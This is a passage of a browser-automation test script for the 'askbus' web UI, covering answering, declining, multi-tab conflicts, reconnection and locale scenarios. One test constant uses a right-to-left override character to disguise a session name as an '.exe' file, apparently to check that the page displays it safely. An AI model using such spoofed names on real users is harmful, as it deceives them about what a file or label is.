// Drives the askbus web UI in Debian's chromium, as a human would, against a served askbus.
//
// Run by tests/ui.rs, which serves the router over TCP with an in-process request hub
// (the "agent") and answers this script's requests on stdin:
//   stdout: {"rpc": n, "op": "ask", "key": "single"}       -> the agent asks case `key`
//                                                              (a question or an approval)
//           {"rpc": n, "op": "outcome", "key": "single"}   -> what the agent received
//           {"rpc": n, "op": "cancel", "key": "f1"}        -> the agent gives up (drops it)
//           {"rpc": n, "op": "step", "session": "s", "step": {...}, "server"?: "durable"}
//                                                           -> the agent posts a step
//           {"rpc": n, "op": "proxy", "up": false}         -> cut / restore the proxy
//           {"rpc": n, "op": "flood", "count": 1000}       -> the agent floods the flood
//                                                              server with that many more
//           {"rpc": n, "op": "restart"}                    -> restart the durable server
//           {"done": {...}}                                -> the last line
//   stdin:  {"rpc": n, "ok": {...}} or {"rpc": n, "error": "..."}
// The Rust side holds the expected outcomes; this side checks what the page shows.
//
// Environment: ASKBUS_UI_URL (no auth), ASKBUS_UI_PROXY_URL (the same server through a
// proxy the test can cut), ASKBUS_UI_AUTH_URL + ASKBUS_UI_TOKEN (auth on),
// ASKBUS_UI_FLOOD_URL (a server of its own for the flood), ASKBUS_UI_DURABLE_URL (a server
// keeping everything in SQLite, which `restart` restarts on the same address),
// ASKBUS_UI_CHROMIUM,
// ASKBUS_UI_SCREENSHOTS (a directory), ASKBUS_UI_ONLY (comma-separated scenario names).

import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { launch } from './chromium.mjs';
import { WAIT, card, env, live, logger, post } from './support.mjs';

const URL_OPEN = env('ASKBUS_UI_URL');
const URL_PROXY = env('ASKBUS_UI_PROXY_URL');
const URL_AUTH = env('ASKBUS_UI_AUTH_URL');
const URL_FLOOD = env('ASKBUS_UI_FLOOD_URL');
const URL_DURABLE = env('ASKBUS_UI_DURABLE_URL');
const TOKEN = env('ASKBUS_UI_TOKEN');
const SCREENSHOTS = env('ASKBUS_UI_SCREENSHOTS');
const ONLY = (process.env.ASKBUS_UI_ONLY || '').split(',').filter(Boolean);
const DESKTOP = { width: 1280, height: 900 };
const PHONE = { width: 390, height: 844 };
/** A session id too long for a phone's line (tests/ui.rs asks its approval under it). */
const LONG_SESSION = 'ui_phone_approval_session_with_a_long_id_0123456789abcdef0123456789';
/** A session id with a right-to-left override (tests/ui.rs asks under it too). */
const HIDDEN_SESSION = 'ui-hidden\u202etxt.exe';
/** An emoji sequence the `hidden_question` asks with: its zero-width joiner shows as itself. */
const WOMAN_TECHNOLOGIST = '\u{1f469}\u{1f3fd}\u200d\u{1f4bb}';
/** The longest main-thread task the page may run while a flood arrives. */
const LONGEST_TASK_MS = 200;
/** How soon after navigation the first card of a flood must be on screen. */
const FIRST_CARD_MS = 1000;
const log = logger('ui');

// ---- The agent, over stdio ---------------------------------------------------------------

const pending = new Map();
let rpcSeq = 0;
createInterface({ input: process.stdin }).on('line', (line) => {
  const message = JSON.parse(line);
  const waiter = pending.get(message.rpc);
  if (!waiter) return;
  pending.delete(message.rpc);
  if (message.error) waiter.reject(new Error(`agent: ${message.error}`));
  else waiter.resolve(message.ok);
});
function rpc(op, args = {}) {
  const id = ++rpcSeq;
  process.stdout.write(`${JSON.stringify({ rpc: id, op, ...args })}\n`);
  return new Promise((resolve, reject) => pending.set(id, { resolve, reject }));
}
const agent = {
  /** Asks case `key`; resolves to the QuestionRequest or ApprovalRequest JSON. */
  ask: (key) => rpc('ask', { key }),
  /** What the agent received for `key`: {answers}, {decisions} or {error: {kind, reason}}. */
  outcome: (key) => rpc('outcome', { key }),
  cancel: (key) => rpc('cancel', { key }),
  /** Posts `step` to `POST /session/{session}/step`, as an agent in another process. */
  step: (session, step, server) => rpc('step', { session, step, server }),
  proxy: (up) => rpc('proxy', { up }),
  /** The agent asks `count` more requests on the flood server; resolves to `{total}`. */
  flood: (count) => rpc('flood', { count }),
  /** Stops the durable server and starts it again on the same file and address. */
  restart: () => rpc('restart'),
};

// ---- Browser helpers ----------------------------------------------------------------------

const origins = new Set([URL_OPEN, URL_PROXY, URL_AUTH, URL_FLOOD, URL_DURABLE].map((url) => new URL(url).origin));
const external = [];
const pageErrors = [];
const screenshots = [];
let context;

/**
 * A new tab on `base` + `query`; `watch(page)` is called before it loads, and `init` runs
 * in the page before its own scripts.
 */
async function open(base, query = '', { viewport = DESKTOP, blockEvents = false, watch, init } = {}) {
  const page = await context.newPage();
  await page.setViewportSize(viewport);
  page.on('pageerror', (error) => pageErrors.push(`${page.url()}: ${error.stack || error}`));
  await watch?.(page);
  if (init) await page.addInitScript(init);
  if (blockEvents) {
    // A tab whose event stream cannot connect (the rest of the API works).
    await page.route(/\/event(\?|$)/, (route) => route.abort('connectionreset'));
  }
  const response = await page.goto(`${base}/${query}`);
  assert.equal(response.status(), 200);
  const policy = response.headers()['content-security-policy'] || '';
  assert.match(policy, /^default-src 'none'/, 'the page forbids other origins');
  return page;
}

/** Has the agent ask case `key` and waits for its card on `page`: `[request, card]`. */
async function askShown(page, key) {
  const request = await agent.ask(key);
  const shown = card(page, request.id);
  await shown.waitFor({ timeout: WAIT });
  return [request, shown];
}
async function until(what, check, timeout = WAIT) {
  const deadline = Date.now() + timeout;
  let last;
  for (;;) {
    try {
      last = await check();
      if (last) return last;
    } catch (error) {
      last = error;
    }
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what} (last: ${last})`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Ids of the pending (unresolved, shown) cards, in page order. */
const shownPending = (page) =>
  page.$$eval('article.card:not(.resolved)', (cards) =>
    cards.filter((card) => !card.hidden).map((card) => card.dataset.id),
  );

async function serverPending(base, session) {
  const response = await fetch(`${base}/question?sessionID=${encodeURIComponent(session)}`);
  assert.equal(response.status, 200);
  return (await response.json()).map((request) => request.id);
}

const replyOverHttp = (base, id, answers) => post(base, `/question/${id}/reply`, { answers });

async function shoot(page, name, { fullPage = true } = {}) {
  const file = join(SCREENSHOTS, `${name}.png`);
  // From the top, so the sticky top bar is where a human sees it.
  if (fullPage) await page.evaluate(() => window.scrollTo(0, 0));
  await page.screenshot({ path: file, fullPage });
  screenshots.push(file);
}

const radio = (scope, name) => scope.getByRole('radio', { name });
const checkbox = (scope, name) => scope.getByRole('checkbox', { name });

/** Waits until `scope` (a card) reads as resolved with a status line containing `text`. */
const resolvedAs = (scope, text) => scope.locator('.status-line', { hasText: text }).waitFor({ timeout: WAIT });

/** Whether `locator`'s element has the keyboard focus. */
const hasFocus = (locator) => locator.evaluate((element) => element === document.activeElement);

/** Asserts the page is no wider than its viewport (no horizontal scrolling). */
async function assertFits(page) {
  const { overflow, widest } = await page.evaluate(() => {
    // The text reaching past the right edge, to say what is too wide.
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const widest = [];
    for (let text = walker.nextNode(); text; text = walker.nextNode()) {
      const range = document.createRange();
      range.selectNodeContents(text);
      if (range.getBoundingClientRect().right > window.innerWidth) {
        widest.push(`${text.parentElement.localName}.${text.parentElement.className}: ${text.data.slice(0, 40)}`);
      }
    }
    return { overflow: document.documentElement.scrollWidth - window.innerWidth, widest };
  });
  assert.ok(overflow <= 0, `no horizontal scrolling on a phone (${overflow} px too wide: ${widest.join('; ')})`);
}

/** Waits for `page`'s banner to say the event stream is down. */
const disconnected = (page) =>
  page.locator('#banner', { hasText: 'Lost the connection to the server' }).waitFor({ timeout: WAIT });

/** Cuts the proxy `page` goes through, and waits for the page to notice. */
async function cut(page) {
  await agent.proxy(false);
  await disconnected(page);
}

/**
 * Opens `count` live tabs on `query` and one whose event stream cannot connect (stale),
 * each showing card `id`; resolves to the tabs, the stale one last.
 */
async function tabsWithStale(query, id, count) {
  const tabs = [];
  for (let index = 0; index < count; index += 1) tabs.push(await open(URL_OPEN, query));
  const stale = await open(URL_OPEN, query, { blockEvents: true });
  await Promise.all(tabs.map(live));
  for (const page of [...tabs, stale]) await card(page, id).waitFor({ timeout: WAIT });
  // The tab without a stream says so.
  await disconnected(stale);
  return [...tabs, stale];
}

/** Submits card `late` of a stale tab with `button`: a 409, then the card reads `status`. */
async function sendLate(late, button, status) {
  await late.getByRole('button', { name: button }).click();
  await late.locator('.note', { hasText: 'already resolved elsewhere' }).waitFor({ timeout: WAIT });
  assert.equal(await late.locator('.status-line').textContent(), status);
}

/** Whether a request for `url` is the page's event stream. */
const isEventStream = (url) => url.pathname === '/event';

const timelineLive = (page) => page.locator('#timeline-status[data-state="live"]').waitFor({ timeout: WAIT });

/**
 * The session timeline as a human sees it, one line per item: what it is, its visible
 * text, and for a group its state, whether it is expanded, and each step's status dot.
 */
const timelineItems = (page) =>
  page.$$eval('#timeline .timeline-list > li', (items) =>
    items.map((item) => {
      const block = item.firstElementChild;
      // What is rendered, as one line (innerText leaves out what is hidden).
      const shown = (element) => element.innerText.replace(/\s+/g, ' ').trim();
      if (!block.classList.contains('group')) return `${block.className}: ${shown(block)}`;
      const expanded = block.querySelector('.group-header').getAttribute('aria-expanded') === 'true';
      // Every step, shown or folded away: a tool with its dot, or a request's lines.
      const steps = [...block.querySelectorAll('.group-items > li > *')].map((step) =>
        step.classList.contains('tl-step')
          ? `${step.dataset.status} ${step.textContent}`
          : [...step.children].map((child) => child.textContent.replace(/\s+/g, ' ').trim()).join(' / '),
      );
      return `group ${block.dataset.state} ${expanded ? 'expanded' : 'collapsed'}: ${shown(block)} [${steps.join(' | ')}]`;
    }),
  );

/** Waits until the timeline reads `expected` (see `timelineItems`); fails with a diff. */
async function timelineReads(page, expected) {
  let seen = [];
  try {
    await until('the timeline', async () => {
      seen = await timelineItems(page);
      return JSON.stringify(seen) === JSON.stringify(expected);
    });
  } catch (error) {
    assert.deepEqual(seen, expected, error.message);
  }
}

/**
 * Runs in a flooded page before its scripts: records when the first card is on screen
 * (`performance.now()`, from navigation start, in the frame that shows it) and every
 * main-thread task over 50 ms (`longtask`).
 */
function floodProbe() {
  window.floodProbe = { firstCard: null, longTasks: [] };
  new PerformanceObserver((list) => {
    for (const task of list.getEntries()) {
      window.floodProbe.longTasks.push({ start: task.startTime, duration: task.duration });
    }
  }).observe({ type: 'longtask', buffered: true });
  const cards = new MutationObserver(() => {
    if (!document.querySelector('article.card')) return;
    cards.disconnect();
    requestAnimationFrame(() => {
      window.floodProbe.firstCard = performance.now();
    });
  });
  cards.observe(document, { childList: true, subtree: true });
}

/** The longest task `page`'s probe saw that ended after `since` (ms from navigation). */
const longestTask = (page, since = 0) =>
  page.evaluate(
    (since) =>
      Math.max(0, ...window.floodProbe.longTasks.filter((task) => task.start + task.duration > since).map((task) => task.duration)),
    since,
  );

/** The flood's figures, reported on the `done` line. */
const floodFigures = {};

// ---- Scenarios -----------------------------------------------------------------------------

const scenarios = {
  /** One single-choice question: the page shows it in full, the click reaches the agent. */
  async answer_single() {
    const page = await open(URL_OPEN, '?session=ui-single');
    await live(page);
    const [, single] = await askShown(page, 'single');
    assert.equal(await single.locator('.chip').textContent(), 'Database');
    assert.equal(
      await single.getByRole('heading', { level: 2 }).textContent(),
      'Which database should the service use?',
    );
    assert.equal(await single.locator('.option-description').first().textContent(), 'the production default');
    assert.match(await single.locator('.timer').textContent(), /^expires in (10:00|9:\d\d)$/);
    assert.equal(await single.getByText('Other', { exact: true }).count(), 0, 'custom=false: no Other');
    await until('the announcement', async () =>
      (await page.locator('#announcer').textContent()).includes('New question in session ui-single'),
    );
    assert.equal(await page.title(), '(1) askbus');
    await radio(single, /SQLite/).check();
    await single.getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(single, 'You answered');
    assert.equal(await single.locator('dd').textContent(), 'SQLite');
    assert.deepEqual(await agent.outcome('single'), { answers: [['SQLite']] });
    assert.equal(await page.title(), 'askbus');
    // The resolved card stays until dismissed.
    // Its buttons name the question, so a screen reader's list of buttons tells cards apart.
    await single.getByRole('button', { name: 'Dismiss: question Database', exact: true }).click();
    assert.equal(await single.count(), 0);
    await page.close();
  },

  /** Three questions at once: multi-select with Other, custom text through the question's
   * own free-text option (seed 000's "Khác"), and a skip. */
  async multi_custom_skip() {
    const page = await open(URL_OPEN, '?session=ui-multi');
    await live(page);
    const [, form] = await askShown(page, 'multi');
    const [telemetry, compression, region] = [0, 1, 2].map((index) =>
      form.locator('fieldset.question-field').nth(index),
    );
    assert.equal(await form.getByRole('heading', { level: 2 }).textContent(), '3 questions');
    assert.equal(await region.getByText('Other', { exact: true }).count(), 0);
    // "Khác" is the free-text choice itself: one radio, its own words, no "Other" beside it.
    assert.equal(await compression.getByText('Other', { exact: true }).count(), 0);
    assert.equal(await radio(compression, /Khác/).count(), 1);
    assert.equal(await compression.getByText('Nhập giá trị tùy chỉnh').count(), 1);

    await checkbox(telemetry, /Logs/).check();
    await checkbox(telemetry, /Traces/).check();
    // "No preference" excludes the other choices, and a choice clears it again.
    await checkbox(telemetry, /No preference/).check();
    assert.equal(await checkbox(telemetry, /Logs/).isChecked(), false);
    await checkbox(telemetry, /Logs/).check();
    assert.equal(await checkbox(telemetry, /No preference/).isChecked(), false);
    await checkbox(telemetry, /Traces/).check();
    await telemetry.getByRole('textbox').fill('Profiles');
    assert.equal(await checkbox(telemetry, /^Other/).isChecked(), true, 'typing selects Other');
    await shoot(page, 'questions-desktop');

    // Submitting with two questions unanswered names them and moves focus to the first.
    await form.getByRole('button', { name: 'Submit answers' }).click();
    assert.match(await form.locator('.card-error').textContent(), /2 still need an answer/);
    assert.equal(await compression.evaluate((field) => field.contains(document.activeElement)), true);
    assert.equal(await compression.getAttribute('aria-invalid'), '');
    // "Khác" chosen but left empty: the focus goes to its text box, not to the radio.
    await radio(compression, /^Khác/).check();
    await form.getByRole('button', { name: 'Submit answers' }).click();
    assert.equal(await hasFocus(compression.getByRole('textbox')), true, 'focus on the empty Other text');
    assert.match(await compression.locator('.field-error').textContent(), /^Type your own answer/);
    await compression.getByRole('textbox').fill('brotli level 5');
    await radio(region, /No preference/).check();
    await form.getByRole('button', { name: 'Submit answers' }).click();
    await resolvedAs(form, 'You answered');
    assert.deepEqual(
      await form.locator('dd').allTextContents(),
      ['Logs, Traces, Profiles', 'brotli level 5', '[No preference]'],
    );
    assert.deepEqual(await agent.outcome('multi'), {
      answers: [['Logs', 'Traces', 'Profiles'], ['brotli level 5'], ['[No preference]']],
    });
    await page.close();
  },

  /** Decline with a reason: the agent is told no, with the reason. */
  async reject() {
    const page = await open(URL_OPEN, '?session=ui-reject');
    await live(page);
    const [, form] = await askShown(page, 'reject');
    await form.getByRole('button', { name: 'Decline: question API', exact: true }).click();
    const reason = form.getByLabel('Reason for the agent (optional)');
    assert.equal(await hasFocus(reason), true);
    await reason.fill('Not now, ask me after lunch');
    await form.getByRole('button', { name: 'Decline question' }).click();
    await resolvedAs(form, 'You declined');
    assert.deepEqual(await agent.outcome('reject'), {
      error: { kind: 'rejected', reason: 'Not now, ask me after lunch' },
    });
    await page.close();
  },

  /** Two live tabs: one answers, the other shows it. A third without live updates gets a 409. */
  async two_tabs() {
    const request = await agent.ask('tabs');
    const [first, second, stale] = await tabsWithStale('?session=ui-tabs', request.id, 2);

    await radio(card(second, request.id), /SQLite/).check(); // half-way through, in tab two
    await radio(card(first, request.id), /Postgres/).check();
    await card(first, request.id).getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(card(first, request.id), 'You answered');

    const other = card(second, request.id);
    await resolvedAs(other, 'Answered elsewhere');
    assert.equal(await other.locator('dd').textContent(), 'Postgres');
    assert.equal(await other.locator('form').isHidden(), true, 'no form left to submit');
    await until('the announcement in tab two', async () =>
      (await second.locator('#announcer').textContent()).includes('was answered elsewhere'),
    );

    const late = card(stale, request.id);
    await radio(late, /SQLite/).check();
    await sendLate(late, 'Submit answer', 'Answered elsewhere');
    assert.equal(await late.locator('dd').textContent(), 'Postgres');
    await shoot(stale, 'conflict-409');
    assert.deepEqual(await agent.outcome('tabs'), { answers: [['Postgres']] });
    for (const page of [first, second, stale]) await page.close();
  },

  /** A reload keeps the draft and shows exactly what is pending after it. */
  async reload_mid_flow() {
    const kept = await agent.ask('reload1');
    const answeredMeanwhile = await agent.ask('reload2');
    const page = await open(URL_OPEN, '?session=ui-reload');
    await live(page);
    const form = card(page, kept.id);
    await form.waitFor({ timeout: WAIT });
    await card(page, answeredMeanwhile.id).waitFor({ timeout: WAIT });
    await checkbox(form.locator('fieldset').nth(0), /Staging/).check();
    await form.locator('fieldset').nth(1).getByRole('textbox').fill('Friday 18:00');

    // While the page reloads (its document held back until then), another client answers
    // one request and the agent asks another.
    let release;
    const held = new Promise((resolve) => (release = resolve));
    const isPage = (url) => url.pathname === '/';
    await page.route(isPage, async (route) => {
      await held;
      await route.continue();
    });
    const reloading = page.reload();
    const askedMeanwhile = await agent.ask('reload3');
    await replyOverHttp(URL_OPEN, answeredMeanwhile.id, [['Yes']]);
    release();
    await reloading;
    await page.unroute(isPage);
    await live(page);
    const expected = [kept.id, askedMeanwhile.id];
    assert.deepEqual(await serverPending(URL_OPEN, 'ui-reload'), expected);
    await until('exactly the pending requests', async () =>
      JSON.stringify(await shownPending(page)) === JSON.stringify(expected),
    );
    assert.equal(await card(page, answeredMeanwhile.id).count(), 0);

    // The draft survived.
    const again = card(page, kept.id);
    assert.equal(await checkbox(again.locator('fieldset').nth(0), /Staging/).isChecked(), true);
    assert.equal(await again.locator('fieldset').nth(1).getByRole('textbox').inputValue(), 'Friday 18:00');
    assert.equal(await radio(again.locator('fieldset').nth(1), /^Other/).isChecked(), true);
    await again.getByRole('button', { name: 'Submit answers' }).click();
    await resolvedAs(again, 'You answered');
    assert.deepEqual(await agent.outcome('reload1'), { answers: [['Staging'], ['Friday 18:00']] });
    assert.deepEqual(await agent.outcome('reload2'), { answers: [['Yes']] });

    // The agent gives up on the last one: the card says so.
    await agent.cancel('reload3');
    await resolvedAs(card(page, askedMeanwhile.id), 'Withdrawn');
    await page.close();
  },

  /**
   * The page's answer reaches the server, whose event reaches the page while the page's
   * request is still open, and that request then fails: the card shows the outcome.
   */
  async in_flight_outcome() {
    const page = await open(URL_OPEN, '?session=ui-in-flight');
    await live(page);
    const [request, form] = await askShown(page, 'in_flight');
    const replyPath = `/question/${request.id}/reply`;
    let marker;
    await page.route(
      (url) => url.pathname === replyPath,
      async (route) => {
        const response = await fetch(`${URL_OPEN}${replyPath}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: route.request().postData(),
        });
        assert.equal(response.status, 200, await response.text());
        // The stream is in order: once the next request's card shows, the page has had
        // the reply's event.
        [marker] = await askShown(page, 'in_flight_marker');
        await route.abort('connectionreset');
      },
      { times: 1 },
    );
    await radio(form, /Postgres/).check();
    await form.getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(form, 'Answered elsewhere');
    assert.equal(await form.locator('dd').textContent(), 'Postgres');
    assert.equal(await form.locator('.card-error').isVisible(), false, 'no stale network complaint');
    assert.deepEqual(await agent.outcome('in_flight'), { answers: [['Postgres']] });
    await agent.cancel('in_flight_marker');
    await resolvedAs(card(page, marker.id), 'Withdrawn');
    await page.close();
  },

  /** The connection drops: the page says so, then resumes with Last-Event-ID, exactly. */
  async dropped_connection() {
    // The Last-Event-ID each request sent (null: none), by path: the event stream, the
    // timeline's stream, and its history.
    const cursorsSent = { '/event': [], '/session/ui-drop/stream': [], '/session/ui-drop/history': [] };
    const watch = (page) =>
      page.on('request', (request) => {
        cursorsSent[new URL(request.url()).pathname]?.push(request.headers()['last-event-id'] ?? null);
      });
    const page = await open(URL_PROXY, '?session=ui-drop', { watch });
    await live(page);
    const first = await agent.ask('drop1');
    const second = await agent.ask('drop2');
    await card(page, first.id).waitFor({ timeout: WAIT });
    await card(page, second.id).waitFor({ timeout: WAIT });
    const migrations = 'What should happen to the old migrations?';
    const cache = 'What should happen to the build cache?';
    await timelineLive(page);
    await timelineReads(page, [
      `tl-question: Waiting for your answer. Answer it Migrations ${migrations}`,
      `tl-question: Waiting for your answer. Answer it Cache ${cache}`,
    ]);

    const connections = (path) => cursorsSent[path].length;
    const beforeCut = { events: connections('/event'), frames: connections('/session/ui-drop/stream') };
    await cut(page);
    assert.equal(await page.locator('#connection').getAttribute('data-state'), 'offline');
    await page.locator('#timeline-status[data-state="offline"]').waitFor({ timeout: WAIT });
    await radio(card(page, first.id), /Keep/).check();
    await card(page, first.id).getByRole('button', { name: 'Submit answer' }).click();
    await card(page, first.id)
      .locator('.card-error', { hasText: 'Could not reach the server, so your answer was not sent' })
      .waitFor({ timeout: WAIT });
    await shoot(page, 'offline-desktop');

    // Meanwhile: the agent asks again, and another client answers the second request.
    const third = await agent.ask('drop3');
    await replyOverHttp(URL_OPEN, second.id, [['Delete']]);

    await agent.proxy(true);
    await live(page);
    await page.locator('#banner').waitFor({ state: 'hidden', timeout: WAIT });
    const expected = [first.id, third.id];
    await until('exactly the pending requests after resuming', async () =>
      JSON.stringify(await shownPending(page)) === JSON.stringify(expected),
    );
    await resolvedAs(card(page, second.id), 'Answered elsewhere');
    const resumed = (cursors) => cursors.some((cursor) => typeof cursor === 'string' && cursor.length > 0);
    assert.ok(
      resumed(cursorsSent['/event'].slice(beforeCut.events)),
      `a reconnection sent Last-Event-ID (saw ${JSON.stringify(cursorsSent)})`,
    );
    // The timeline resumed its stream too: what happened meanwhile is there, without a
    // second history.
    await timelineLive(page);
    await timelineReads(page, [
      `tl-question: Waiting for your answer. Answer it Migrations ${migrations}`,
      `tl-question: answered by local Cache ${cache} Delete`,
      'tl-question: Waiting for your answer. Answer it Notify Notify the team now?',
    ]);
    assert.equal(cursorsSent['/session/ui-drop/history'].length, 1);
    assert.ok(resumed(cursorsSent['/session/ui-drop/stream'].slice(beforeCut.frames)), 'the timeline resumed');

    // The kept answer can now be sent; the new request is declined without a reason.
    await card(page, first.id).getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(card(page, first.id), 'You answered');
    const declined = card(page, third.id);
    await declined.getByRole('button', { name: 'Decline: question Notify', exact: true }).click();
    await declined.getByRole('button', { name: 'Decline question' }).click();
    await resolvedAs(declined, 'You declined');
    await timelineReads(page, [
      `tl-question: answered by local Migrations ${migrations} Keep`,
      `tl-question: answered by local Cache ${cache} Delete`,
      'tl-question: Declined declined by local Notify Notify the team now?',
    ]);
    assert.deepEqual(await agent.outcome('drop1'), { answers: [['Keep']] });
    assert.deepEqual(await agent.outcome('drop2'), { answers: [['Delete']] });
    assert.deepEqual(await agent.outcome('drop3'), { error: { kind: 'rejected', reason: null } });
    await page.close();
  },

  /**
   * The page resumes with a cursor the server no longer has: the server says
   * `server.resync`, and the page's list becomes the server's pending requests.
   */
  async resync() {
    const session = 'ui-resync';
    const kept = await agent.ask('resync1');
    const answered = await agent.ask('resync2');
    const requests = [];
    const page = await open(URL_PROXY, `?session=${session}`, {
      watch: (page) => page.on('request', (request) => requests.push(new URL(request.url()).pathname)),
    });
    await live(page);
    for (const request of [kept, answered]) await card(page, request.id).waitFor({ timeout: WAIT });

    // While the page is cut off, the agent asks again and another client answers one.
    await cut(page);
    const asked = await agent.ask('resync3');
    await replyOverHttp(URL_OPEN, answered.id, [['Yes']]);

    // It comes back with a cursor the server does not know (as after the server's history
    // moved on), so nothing is replayed.
    const unknownCursor = 'evt_7ZZZZZZZZZZZZZZZZZZZZZZZZZ';
    let resumedAt = null;
    await page.route(
      isEventStream,
      (route) => {
        resumedAt = requests.length;
        return route.continue({ headers: { ...route.request().headers(), 'last-event-id': unknownCursor } });
      },
      { times: 1 },
    );
    await agent.proxy(true);
    await live(page);
    const expected = [kept.id, asked.id];
    assert.deepEqual(await serverPending(URL_OPEN, session), expected);
    await until('the list to be the server\'s pending requests', async () =>
      JSON.stringify(await shownPending(page)) === JSON.stringify(expected),
    );
    assert.equal(await card(page, answered.id).count(), 0, 'the request answered meanwhile is gone');
    assert.ok(
      requests.slice(resumedAt).includes('/question'),
      `the resync took a snapshot (requests after the resumed stream: ${requests.slice(resumedAt)})`,
    );
    assert.deepEqual(await agent.outcome('resync2'), { answers: [['Yes']] });
    await agent.cancel('resync1');
    await agent.cancel('resync3');
    await resolvedAs(card(page, asked.id), 'Withdrawn');
    await page.close();
  },

  /**
   * The server refuses the event stream (every stream slot taken): the page says so, that
   * answers still go through, and waits as long as the server asked before trying again;
   * "Retry now" does not wait.
   */
  async streams_busy() {
    const refused = {
      status: 503,
      headers: { 'retry-after': '60' },
      contentType: 'application/json',
      body: JSON.stringify({
        code: 'too_many_streams',
        message: 'the server already holds 1000 open event streams and long polls, its limit; try again later',
      }),
    };
    const page = await open(URL_OPEN, '?session=ui-busy', {
      watch: (page) => page.route(isEventStream, (route) => route.fulfill(refused), { times: 1 }),
    });
    const banner = page.locator('#banner-text');
    await until('the banner to say the server is busy', async () =>
      /The server is busy/.test(await banner.textContent()),
    );
    const text = await banner.textContent();
    assert.match(text, /answers can still be sent/);
    const seconds = Number(/Reconnecting in (\d+) s/.exec(text)?.[1]);
    assert.ok(seconds > 30, `it waits as long as the server asked (60 s), not its own backoff: ${text}`);
    await page.getByRole('button', { name: 'Retry now' }).click();
    await live(page);
    assert.equal(await page.locator('#banner').isHidden(), true);
    await page.close();
  },

  /** A phone-sized screen, answered with the keyboard alone. */
  async phone_keyboard() {
    const page = await open(URL_OPEN, '?session=ui-phone', { viewport: PHONE });
    await live(page);
    const [request, form] = await askShown(page, 'phone');
    await assertFits(page);
    await shoot(page, 'question-phone');

    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Skip to pending requests');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab'); // the card's session link, then its first option
    assert.equal(await page.evaluate(() => document.activeElement.dataset.session), 'ui-phone');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.value), 'Today');
    await page.keyboard.press('ArrowDown');
    assert.equal(await radio(form, /Tomorrow/).isChecked(), true);
    await page.keyboard.press('Tab'); // the Other text field
    await page.keyboard.press('Tab'); // Submit
    assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Submit answer');
    await page.keyboard.press('Enter');
    await resolvedAs(form, 'You answered');
    assert.equal(await page.evaluate(() => document.activeElement.dataset.id), request.id, 'focus stays on the card');
    assert.deepEqual(await agent.outcome('phone'), { answers: [['Tomorrow']] });
    await page.close();
  },

  /**
   * A browser set to Vietnamese, then one set to Chinese: the page and its cards speak its
   * language (the seeds' "Khác" for Other), and the answers sent are the options' own words.
   */
  async languages() {
    // An agent asking in Chinese does not choose the language of an English reviewer's
    // controls: the card speaks the browser's language.
    const page = await open(URL_OPEN, '?session=ui-locale-agent');
    await live(page);
    const [request, review] = await askShown(page, 'locale_agent');
    assert.equal(request.locale, 'zh-CN');
    assert.equal(await review.getAttribute('lang'), 'en');
    await review.getByRole('button', { name: 'Approve: deploy', exact: true }).click();
    await resolvedAs(review, 'You sent your decision');
    assert.deepEqual(await agent.outcome('locale_agent'), { decisions: [{ type: 'approve' }] });
    await page.close();

    const cases = [
      { locale: 'vi-VN', key: 'locale_vi', lang: 'vi', title: 'Yêu cầu đang chờ', submit: 'Gửi câu trả lời', other: 'Khác', skip: 'Không có ý kiến', done: 'Bạn đã trả lời' },
      { locale: 'zh-CN', key: 'locale_zh', lang: 'zh', title: '待处理请求', submit: '提交答案', other: '其他', skip: '无偏好', done: '您已回答' },
    ];
    for (const words of cases) {
      const browser = await launch({ viewport: DESKTOP, locale: words.locale });
      try {
        const page = await browser.newPage();
        page.on('pageerror', (error) => pageErrors.push(`${page.url()}: ${error.stack || error}`));
        await page.goto(`${URL_OPEN}/?session=ui-${words.key.replace('_', '-')}`);
        await live(page);
        assert.equal(await page.locator('html').getAttribute('lang'), words.lang);
        assert.match(await page.locator('#list-title').textContent(), new RegExp(`^${words.title}`));
        const [, form] = await askShown(page, words.key);
        assert.equal(await form.getAttribute('lang'), words.lang);
        await radio(form, words.skip).waitFor();
        if (words.key === 'locale_vi') {
          await radio(form, /^EU/).check();
        } else {
          await radio(form, new RegExp(`^${words.other}`)).check();
          await form.locator('.other-text').fill('亚洲');
        }
        await form.getByRole('button', { name: new RegExp(`^${words.submit}`) }).click();
        await resolvedAs(form, words.done);
        await shoot(page, `answered-${words.lang}`);
        assert.deepEqual(await agent.outcome(words.key), { answers: [[words.key === 'locale_vi' ? 'EU' : '亚洲']] });
      } finally {
        await browser.close();
      }
    }
  },

  /** The session filter shows one session, and says so in the URL. */
  async session_filter() {
    const a = await agent.ask('filter_a');
    const b = await agent.ask('filter_b');
    const page = await open(URL_OPEN);
    await live(page);
    await until('both sessions', async () => JSON.stringify(await shownPending(page)) === JSON.stringify([a.id, b.id]));
    assert.equal(await page.locator('#pending-count').textContent(), '2');
    await shoot(page, 'list-desktop');
    await page.getByRole('combobox', { name: /^Session/ }).selectOption('ui-filter-b');
    assert.deepEqual(await shownPending(page), [b.id]);
    assert.equal(new URL(page.url()).searchParams.get('session'), 'ui-filter-b');
    assert.equal(await page.locator('#pending-count').textContent(), '1');
    await agent.cancel('filter_a');
    await agent.cancel('filter_b');
    await resolvedAs(card(page, b.id), 'Withdrawn');
    await page.locator('#empty', { hasText: 'in session “ui-filter-b”' }).waitFor({ timeout: WAIT });
    // Dismissed, its card hands the focus on past the card the filter hides, to the heading.
    await card(page, b.id).getByRole('button', { name: /^Dismiss/ }).click();
    assert.equal(await page.evaluate(() => document.activeElement.id), 'list-title');
    await page.close();
  },

  /** Auth on: the page asks for a token, refuses a wrong one, then works and keeps it. */
  async token_prompt() {
    const page = await open(URL_AUTH, '?session=ui-auth');
    const dialog = page.getByRole('dialog', { name: 'Access token needed' });
    await dialog.waitFor({ timeout: WAIT });
    assert.equal(await page.locator('#connection').getAttribute('data-state'), 'locked');
